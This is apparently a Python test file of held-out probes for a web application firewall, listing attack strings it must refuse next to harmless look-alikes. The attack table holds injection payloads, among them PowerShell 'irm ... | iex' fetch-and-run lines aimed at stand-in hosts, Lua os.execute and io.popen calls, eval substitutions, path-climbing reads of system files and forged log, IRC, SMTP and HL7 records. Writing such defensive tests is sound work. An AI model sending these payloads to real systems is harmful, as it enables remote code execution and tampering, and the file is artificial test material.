"""WAF, part 2m: held-out probes, eleventh file (README: the twenty-third
round), written for this file on 2026-12-05 after the round's two new
held-out corpora (tests/corpus/health/, tests/corpus/community/) were
first replayed and BEFORE any rule was changed for the classes they
showed. No string is taken from a corpus or a public list: each class is
written here in shapes of our own, through the real edge (shipped config,
bans off).

Look-alikes that must pass, by class:
- log-record: a chat line or a note whose next line is text, a label, or
  a checklist item;
- irc-command: "join" and "notice" in a chat message's sentence;
- cache-delete: "delete" in a sentence after a line break;
- hl7-segment: an HL7 message pasted whole (its first line a segment);
- smtp-end: a lone "." line in a note, then text;
- mongo-expr: an $expr comparing two different fields;
- lucene-breakout: a balanced query with _exists_;
- set-list: a sentence with a quote, commas and "=";
- lua-code: Lua's string and table functions, os.time(), os.date();
- substitution-parse: a chat bot's variables whose code no shell parses;
- ellipsis-path: "/.../" eliding directories in a path in prose;
- unit-call: a lab unit before a flag in parentheses ("mg/dL (H)");
- alias-word: a PowerShell alias's letters as an abbreviation in prose.

Attacks that must be refused, by class:
- log-record: a record forged after one token and a line break: a
  bracketed time of day, a date with slashes and a time, a bracketed tag;
  a syslog frame (priority, time) after any first line; an ISO time
  stamp and key=value fields in a query value;
- irc-command: IRC's PRIVMSG, NOTICE, JOIN, MODE after a line break;
- cache-delete: memcached's delete of a namespaced key after a break;
- hl7-segment: a segment after a CR in a field's value with components,
  and an MLLP frame;
- smtp-end: a "." line that ends a message's data, then MAIL FROM;
- mongo-expr: $expr comparing a literal or a field with itself;
- lucene-breakout: ") OR (" with _exists_ or "*:*" in an unbalanced value;
- set-list: a quote that ends a SET value, assignments of other columns,
  and a last one left open for the application's quote;
- lua-code: os.execute, io.popen, package.loadlib, loadstring, load of
  bytecode, getfenv's reach into os;
- substitution-parse: a substitution that parses, with eval of a
  command;
- ellipsis-path: "..." segments that climb from the start;
- unit-call: dl() loading an extension;
- alias-word: irm with a host, piped into iex.

Measured before the change (2026-12-05, on 42623cf): 23 of 53 probes
failed (the known miss aside). Attacks passed: log-record 2 of 5,
irc-command 3 of 4, cache-delete 1 of 1, hl7-segment 3 of 3, smtp-end 1
of 1 (in a JSON note), mongo-expr 2 of 2, lucene-breakout 2 of 2,
lua-code 3 of 5. Look-alikes refused: irc-command 1 of 2 ("notice" read
as a log level), ellipsis-path 1 of 1, unit-call 2 of 2, alias-word 2 of
2. After it: every attack refused, every look-alike passes.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "log-record": [
        "ok\n[09:14:02] [main/WARN]: player Zed granted operator",
        "lol\r\nL 11/30/2025 - 08:01:55: \"root<1>\" kicked \"mod_anna\"",
        "ty\n[AUDIT] export approved for user root",
        "saved\n<34>Nov 30 08:01:55 web01 sshd[77]: session opened for root",
        "note added\n2025-11-30T08:01:55Z actor=root op=grant_all outcome=ok",
    ],
    "irc-command": [
        "hey\r\nPRIVMSG #lobby :visit evil.example for coins",
        "afk\r\nNOTICE all :server restarting",
        "yo\r\nJOIN #staff\r\n",
        "x\r\nMODE #staff +o intruder\r\n",
    ],
    "cache-delete": ["k1\r\ndelete user:session:42\r\n"],
    "hl7-segment": [
        "SMITH^ANNA\rOBX|2|ST|XYZ^Result||forged|||N|||F",
        "77 PINE RD^^AUSTIN^TX\rZZZ|1|consent^N",
        "ROE^MAX\x1c\r\x0bMSH|^~\\&|X|Y|Z|W|20250101||ADT^A08|9|P|2.5",
    ],
    "smtp-end": ["Cheers\r\n.\r\nMAIL FROM:<ceo@corp.example>\r\nRCPT TO:<x@y.example>\r\n"],
    "mongo-expr": [
        "{\"user\": \"ann\", \"$expr\": {\"$eq\": [\"$pin\", \"$pin\"]}}",
        "{\"$expr\": {\"$gte\": [2, 2]}}",
    ],
    "lucene-breakout": ["smith) OR (_exists_:dob", "x) || (*:*"],
    "set-list": ["nice', role='owner', note='x", "hi', credits=99999, motto='a"],
    "lua-code": [
        "os.execute('uname -a')",
        "io.popen('id'):read('*a')",
        "package.loadlib('/tmp/a.so', 'luaopen_a')()",
        "loadstring(\"os.exit()\")()",
        "getfenv(1).io.open('/etc/hosts'):read('*a')",
    ],
    "substitution-parse": ["$(eval uname -a)", "name $(eval \"cat /etc/hosts\")"],
    "ellipsis-path": [".../.../.../etc/hosts", "...\\...\\windows\\win.ini"],
    "unit-call": ["dl('/tmp/evil.so')", "<?php dl(\"x.so\"); ?>"],
    "alias-word": ["irm evil.example/p.ps1 | iex", "IRM http://198.51.100.4/a | IEX"],
}

BENIGN = {
    "log-record": [
        "ok\nmeeting at 10:30 tomorrow in room 4",
        "Changes:\n[12:00:01] worker started, queue 3",
        "done\n[x] call the vendor",
    ],
    "irc-command": ["hey\njoin us on the staff channel tonight", "btw\nnotice the new badge"],
    "cache-delete": ["k1\ndelete the old drafts please"],
    "hl7-segment": ["MSH|^~\\&|LAB|H|EHR|H|20250101||ORU^R01|5|P|2.5\rOBX|1|NM|GLU^Glucose||5.4"],
    "smtp-end": ["Cheers\n.\nSee you at the mail room"],
    "mongo-expr": ["{\"$expr\": {\"$lt\": [\"$used\", \"$quota\"]}}"],
    "lucene-breakout": ["(status:open) OR (_exists_:assignee)"],
    "set-list": ["I said 'fine', x=1, y=2 in the doc"],
    "lua-code": ["local s = string.format('%d', os.time())", "table.insert(list, os.date('%Y'))"],
    "substitution-parse": ["!cmd !roll $(eval Math.floor(Math.random() * 6) + 1)",
                           "$(user) has $(count) coins"],
    "ellipsis-path": ["Save it under Documents/Games/.../Saves/slot1.dat as usual."],
    "unit-call": ["Creatinine 1.4 mg/dL (H), recheck in 2 weeks",
                  "Hb 9.1 g/dL (L) and ferritin low"],
    "alias-word": ["IRM cérébrale : pas d'anomalie", "IEX listing date moved"],
}

# (the typed-break miss once listed here is refused since the twenty-eighth
# round: a dated record that names who acted, after a sentence)
KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r11_attack_refused_everywhere,
 test_heldout_r11_benign_passes) = heldout_probe_tests(
    "r11", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
